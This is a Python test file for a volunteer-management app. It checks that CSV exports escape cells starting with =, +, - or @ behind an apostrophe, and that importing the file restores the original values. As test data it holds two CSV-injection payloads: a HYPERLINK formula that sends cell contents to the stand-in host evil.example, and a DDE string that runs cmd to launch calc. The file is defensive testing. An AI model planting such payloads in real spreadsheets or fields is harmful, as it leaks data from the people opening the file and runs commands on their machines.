"""A hostile look at the operators' export (issue 14 part 5): a name a volunteer chose at 회원가입, or
a title a site manager typed, that starts a formula (=, +, -, @) must not run as one when an operator
opens the CSV in Excel; it is written behind an apostrophe, and the import reads it back as it was, so
the round trip still gives the same data."""
from helpers import build_app, ctx
from pumasi.clock import today_kst
from pumasi.db import db
from pumasi.models import Activity, Member
from pumasi.records.exports import csv_text
from pumasi.transfer import exports, runs

ORDER = ("activities", "members", "participations")
NAME = '=HYPERLINK("http://evil.example/?"&A1,"클릭")'
TITLE = "@SUM(1+1)*cmd|' /C calc'!A0"


def _exported(app):
    with ctx(app):
        return {kind: [list(row) for row in exports.rows(kind)] for kind in ORDER}


def test_no_exported_cell_starts_a_formula_and_the_round_trip_holds(app, demo, tmp_path, redis_url):
    with ctx(app):
        Member.update(name=NAME).where(Member.username == "vol1").execute()
        Activity.update(title=TITLE).where(Activity.id == Activity.select().first().id).execute()
    first = _exported(app)
    cells = [cell for rows in first.values() for row in rows for cell in row]
    assert "'" + NAME in cells and "'" + TITLE in cells
    assert not [cell for cell in cells if str(cell)[:1] in ("=", "+", "-", "@")]
    empty = build_app(tmp_path / "empty", f"sqlite:///{tmp_path / 'empty.db'}", redis_url)
    try:
        with ctx(empty):
            for kind in ORDER:
                run = runs.start(kind, f"{kind}.csv", csv_text(first[kind]).encode("utf-8"), None)
                run = runs.preview(run.id, today_kst(), empty.config)
                assert run.state == "previewed" and not runs.read(run)["counts"]["bad"], (kind, runs.read(run))
                assert runs.choose(run, {}) and runs.save(run.id, today_kst(), empty.config).state == "saved"
            assert Member.get(Member.username == "vol1").name == NAME  # read back as it was
            assert Activity.select().where(Activity.title == TITLE).exists()
        assert _exported(empty) == first
    finally:
        with empty.app_context():
            if not db.is_closed():
                db.close()
